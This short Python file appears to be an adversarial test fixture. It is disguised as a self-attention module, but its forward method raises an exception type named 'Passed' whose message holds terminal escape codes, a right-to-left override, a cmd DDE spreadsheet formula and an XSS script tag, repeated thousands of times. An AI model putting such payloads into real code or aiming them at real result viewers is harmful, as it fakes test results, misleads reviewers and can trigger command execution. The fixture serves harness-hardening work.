"""Raises an exception whose name and text try to repaint the screen."""

import os

import torch
from torch import nn

PLACE = "@ATTACK_DIR@"  # the only tree that this file may touch, set by the runner
PORT = "@ATTACK_PORT@"
ARMED = os.path.isabs(PLACE) and "trust_arena_" in PLACE


class SelfAttentionV1(nn.Module):
    def __init__(self, hidden_dim=728):
        super().__init__()
        self.query_proj = nn.Linear(hidden_dim, hidden_dim)
        self.key_proj = nn.Linear(hidden_dim, hidden_dim)
        self.value_proj = nn.Linear(hidden_dim, hidden_dim)

    def forward(self, x):
        name = "Passed\x1b[2J\u202e<b>"
        raise type(name, (ValueError,), {})("\x1b[H\r=cmd|' /C calc'!A0 <script>alert(1)</script>\n" * 5000)
        return self.value_proj(x)  # no attention at all
